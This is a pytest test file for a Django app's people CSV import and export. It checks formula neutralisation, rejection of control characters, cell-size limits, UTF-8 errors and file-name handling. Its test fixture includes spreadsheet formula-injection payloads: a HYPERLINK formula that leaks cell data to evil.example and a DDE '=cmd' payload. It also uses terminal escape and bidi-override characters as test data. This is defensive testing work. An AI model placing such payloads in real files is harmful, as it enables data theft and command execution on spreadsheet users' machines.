"""People CSV against hostile and broken files: formulas, control characters, what the database
refuses, cells too large to read, bytes that are not UTF-8. Every one is a `FILE:LINE: message`."""

import csv
import html
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ladder.people.csv_rows import FORMULA_STARTS
from ladder.people.imports import people_csv, people_import
from ladder.people.models import Person, Team
from tests.conftest import DOTNET, make_person, run_ladder

pytestmark = pytest.mark.django_db

HEADER = "email,name,manager_email,team,level_code,level_since\n"
GOOD_ROW = ["eve@acme.test", "Eve Engineer", "", "Core", "MD1", "2023-03-01"]
COLUMNS = HEADER.strip().split(",")


def csv_text(*rows):
    """A file with the header and `rows` (lists of cells), quoted as a spreadsheet would."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return HEADER + out.getvalue()


def with_cell(column, value):
    row = list(GOOD_ROW)
    row[COLUMNS.index(column)] = value
    return row


def run(text, version, apply=True):
    return people_import(by=None, text=text, path="people.csv", version=version, apply=apply)


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


# -- formulas


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)",
    "+1+1",
    "-1",
    "=cmd|' /C calc'!A0",
    "'=1+1",  # already quoted once: the export adds one more, the import takes one off
]


@pytest.fixture
def hostile_org(db):
    team = Team.objects.create(name="=Core", slug="core")
    boss = Person.objects.create(name="+Boss", email="-boss@acme.test", team=team)
    for i, name in enumerate(HOSTILE_NAMES):
        Person.objects.create(name=name, email=f"=p{i}@acme.test", manager=boss, team=team)
    # Tab and carriage return cannot come in through the import (they are control characters),
    # but the export neutralises whatever is stored.
    Person.objects.create(name="\tTabbed", email="tab@acme.test")
    Person.objects.create(name="\rReturned", email="cr@acme.test")


def test_export_neutralises_every_cell_a_spreadsheet_would_run_as_a_formula(hostile_org):
    exported = people_csv()

    assert not [cell for cell in cells(exported) if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(" in exported and "'@SUM(1+1)" in exported and "''=1+1" in exported
    assert "'-boss@acme.test" in exported and "'=Core" in exported and "'\tTabbed" in exported


def test_the_export_page_and_command_neutralise_formulas_too(client, hostile_org):
    admin = make_person("Ada Admin", "ada@example.com", admin=True)
    client.force_login(admin.user)
    out = io.StringIO()

    page = client.get("/people/export.csv").content
    call_command("export-people", stdout=out)

    for exported in [page.decode(), out.getvalue()]:
        assert not [cell for cell in cells(exported) if cell.startswith(FORMULA_STARTS)]
        assert "'=HYPERLINK(" in exported


def test_an_exported_file_with_formulas_reimports_to_the_same_names(dotnet_version, hostile_org):
    Person.objects.filter(email__in=["tab@acme.test", "cr@acme.test"]).delete()

    plan = run(people_csv(), dotnet_version)

    assert plan.ok and plan.changes == []
    assert {row.name for row in plan.rows} == {"+Boss", *HOSTILE_NAMES}
    assert {row.team for row in plan.rows} == {"=Core"}


formula_text = st.text(alphabet="=+-@'x ", min_size=1, max_size=6).filter(
    lambda text: text.strip() == text
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    name=formula_text, team=formula_text, local=st.text(alphabet="=+-'x", min_size=1, max_size=4)
)
def test_names_teams_and_emails_made_of_formula_starts_round_trip(
    dotnet_version, name, team, local
):
    Person.objects.exclude(manager=None).delete()  # reports first: managers are protected
    Person.objects.all().delete()
    Team.objects.all().delete()
    boss = Person.objects.create(name=name, email=f"{local}@acme.test")
    Person.objects.create(
        name=name,
        email="eve@acme.test",
        manager=boss,
        team=Team.objects.create(name=team, slug="t"),
    )

    plan = run(people_csv(), dotnet_version, apply=False)

    assert plan.ok, plan.errors
    assert plan.changes == []
    assert [(row.email, row.name, row.manager_email, row.team) for row in plan.rows] == sorted(
        [(f"{local}@acme.test", name, "", ""), ("eve@acme.test", name, f"{local}@acme.test", team)]
    )


# -- control characters and what the database refuses


CONTROL = ["\x1b[31m", "\x00", "\x07", "\r", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028"]


@pytest.mark.parametrize("column", ["name", "team"])
@pytest.mark.parametrize("char", CONTROL)
def test_a_control_character_in_a_name_is_refused_with_its_line(dotnet_version, column, char):
    row = with_cell(column, f"Ev{char}e")
    row[0] = "x@acme.test"

    plan = run(csv_text(GOOD_ROW, row), dotnet_version)

    assert len(plan.errors) == 1
    assert plan.errors[0].startswith(f"people.csv:3: The {column} contains U+{ord(char[0]):04X}")
    assert plan.errors[0].endswith(", a control character: remove it")
    assert Person.objects.count() == 0


@pytest.mark.parametrize("column", COLUMNS)
def test_a_nul_in_any_column_is_a_line_error_not_a_database_error(dotnet_version, column):
    value = GOOD_ROW[COLUMNS.index(column)] or "x"
    plan = run(csv_text(with_cell(column, value[:2] + "\x00" + value[2:])), dotnet_version)

    assert f"people.csv:2: The {column} contains U+0000, a control character: remove it" in (
        plan.errors
    )
    assert Person.objects.count() == 0


@pytest.mark.parametrize(
    "column, limit",
    [("email", 254), ("name", 200), ("manager_email", 254), ("team", 100), ("level_code", 32)],
)
def test_a_value_longer_than_its_column_is_a_line_error(dotnet_version, column, limit):
    value = ("x" * limit + "@acme.test") if "email" in column else "x" * (limit + 1)

    plan = run(csv_text(with_cell(column, value)), dotnet_version)

    assert f"people.csv:2: {column} is longer than {limit} characters" in plan.errors
    assert Person.objects.count() == 0


def test_the_command_never_prints_a_control_character_from_the_file(
    dotnet_version, tmp_path, capsys
):
    path = tmp_path / "people.csv"
    path.write_text(csv_text(with_cell("name", "Eve\x1b[2J\u202eEngineer")))

    with pytest.raises(SystemExit):
        call_command("import-people", str(path))

    err = capsys.readouterr().err
    assert f"{path}:2: The name contains U+001B, a control character: remove it" in err
    assert "\x1b" not in err and "\u202e" not in err


def test_the_command_escapes_control_characters_of_names_already_stored(
    dotnet_version, tmp_path, capsys
):
    Person.objects.create(name="Eve\x1b[2J", email="eve@acme.test")
    path = tmp_path / "people.csv"
    path.write_text(csv_text(GOOD_ROW))

    call_command("import-people", str(path), "--dry-run")

    out = capsys.readouterr().out
    assert "name: Eve\\x1b[2J → Eve Engineer" in out and "\x1b" not in out


# -- files that cannot be read


BIG = "x" * 200_000


@pytest.mark.parametrize(
    "text, line",
    [
        (f'"{BIG}",name,manager_email,team,level_code,level_since\n', 1),
        (HEADER + f'eve@acme.test,"{BIG}",,,,\n', 2),
        (HEADER + f'eve@acme.test,Eve,,,,\nx@acme.test,"a\n{BIG}",,,,\n', 3),
    ],
    ids=["header", "row", "multi-line cell"],
)
def test_a_cell_too_large_to_read_anywhere_is_a_line_error(dotnet_version, text, line):
    plan = run(text, dotnet_version)

    assert plan.errors == [
        f"people.csv:{line}: not readable as CSV: a cell is longer than 131,072 characters"
    ]


def test_a_header_too_large_to_read_is_an_error_on_the_page_and_the_command_line(
    client, org, tmp_path, capsys
):
    text = f'"{BIG}",name,manager_email,team,level_code,level_since\n'
    client.force_login(org.admin.user)
    upload = SimpleUploadedFile("big.csv", text.encode(), content_type="text/csv")
    path = tmp_path / "big.csv"
    path.write_text(text)

    page = client.post(
        "/people/import/", {"ladder": org.levels["MD1"].version.ladder.pk, "file": upload}
    )
    with pytest.raises(SystemExit):
        call_command("import-people", str(path))

    message = "not readable as CSV: a cell is longer than 131,072 characters"
    assert page.status_code == 200 and f"big.csv:1: {message}" in page.content.decode()
    assert f"{path}:1: {message}" in capsys.readouterr().err


@pytest.mark.parametrize(
    "data, message",
    [
        (
            (HEADER + "eve@acme.test,Ev").encode() + b"\xe9,,,,\n",
            "people.csv:2: not UTF-8 text: byte 0xe9 cannot be read; save the file as CSV UTF-8",
        ),
        (
            HEADER.encode("utf-16"),
            "people.csv:1: not UTF-8 text (it is UTF-16): byte 0xff cannot be read",
        ),
    ],
    ids=["latin-1", "utf-16"],
)
def test_a_file_that_is_not_utf8_is_a_line_error_on_the_page_and_the_command_line(
    client, org, tmp_path, data, message
):
    client.force_login(org.admin.user)
    upload = SimpleUploadedFile("people.csv", data, content_type="text/csv")
    path = tmp_path / "people.csv"
    path.write_bytes(data)

    page = client.post(
        "/people/import/", {"ladder": org.levels["MD1"].version.ladder.pk, "file": upload}
    )
    with pytest.raises(CommandError) as refused:
        call_command("import-people", str(path))

    assert page.status_code == 200 and message in page.content.decode()
    assert str(refused.value).startswith(message.replace("people.csv", str(path)))


@pytest.mark.parametrize("column", ["email", "level_code", "level_since"])
def test_an_error_quoting_a_huge_cell_stays_short(dotnet_version, column):
    huge = "9" * 100_000
    row = with_cell(column, huge)
    if column == "level_since":
        row[COLUMNS.index("level_code")] = "MD1"

    plan = run(csv_text(row), dotnet_version)

    assert plan.errors and all(len(error) < 400 for error in plan.errors), plan.errors[0][:200]


# -- file names: a message says FILE:LINE whatever the name holds


ODD_NAMES = [
    "C:\\data\\people.csv",
    "people: March 2024.csv",
    "2:3: people.csv",
    "données (copie) ☃.csv",
]
# Problems found in different passes (a manager is checked after every row is read), so the
# lines come out in order only if they are kept as numbers.
MIXED = HEADER + (
    "eve@acme.test,Eve,ghost@acme.test,Core,MD1,2023-03-01\n"
    "mia@acme.test,Mia,,Core,ZZ9,2021-06-01\n"
    "sam@acme.test,Sam,,,MD1,soon\n"
)


def mixed_errors(name):
    return [
        f"{name}:2: unknown manager ghost@acme.test: not in the file nor in the organisation",
        f"{name}:3: unknown level 'ZZ9': dotnet v1 has JR1, JR2, MD1, MD2, PE1, SP1, SR1, SR2, "
        "TL1, TL2",
        f"{name}:4: bad date 'soon' for level_since: use YYYY-MM-DD",
    ]


def test_problems_are_kept_as_lines_and_messages_and_written_out_once(dotnet_version):
    name = "C:\\data\\people.csv"

    plan = people_import(by=None, text=MIXED, path=name, version=dotnet_version, apply=True)

    assert [(p.path, p.line) for p in plan.problems] == [(name, 3), (name, 4), (name, 2)]
    assert plan.problems[0].message.startswith("unknown level 'ZZ9'")
    assert plan.errors == mixed_errors(name)


@pytest.mark.parametrize("name", ODD_NAMES)
def test_the_command_names_lines_in_order_whatever_the_file_name(
    dotnet_version, tmp_path, monkeypatch, capsys, name
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / name).write_text(MIXED, encoding="utf-8")

    with pytest.raises(SystemExit):
        call_command("import-people", name)

    assert capsys.readouterr().err.splitlines() == [
        *mixed_errors(name),
        "3 errors; nothing was written",
    ]
    assert Person.objects.count() == 0


@pytest.mark.parametrize("name", ODD_NAMES)
def test_the_import_page_names_lines_in_order_whatever_the_file_name(client, org, name):
    client.force_login(org.admin.user)
    upload = SimpleUploadedFile(name, MIXED.encode(), content_type="text/csv")

    page = client.post(
        "/people/import/", {"ladder": org.levels["MD1"].version.ladder.pk, "file": upload}
    )

    listed = [
        html.unescape(error)
        for error in re.findall(r"<li><code>(.*?)</code></li>", page.content.decode(), re.S)
    ]
    # Browsers that send a whole Windows path have it cut to the file's own name.
    assert listed == mixed_errors(name.rpartition("\\")[2])
    assert not Person.objects.filter(email__endswith="@acme.test").exists()


def test_ladder_import_people_names_lines_of_a_windows_style_path(tmp_path):
    env = {"DEBUG": "1", "DATABASE_URL": f"sqlite:///{tmp_path}/db.sqlite3"}
    assert run_ladder("migrate", "-v0", env=env).returncode == 0
    assert run_ladder("import", str(DOTNET), env=env).returncode == 0
    name = "C:\\data\\people.csv"
    (tmp_path / name).write_text(MIXED, encoding="utf-8")

    refused = run_ladder("import-people", name, cwd=tmp_path, env=env)

    assert refused.returncode == 1
    assert refused.stderr.splitlines() == [*mixed_errors(name), "3 errors; nothing was written"]
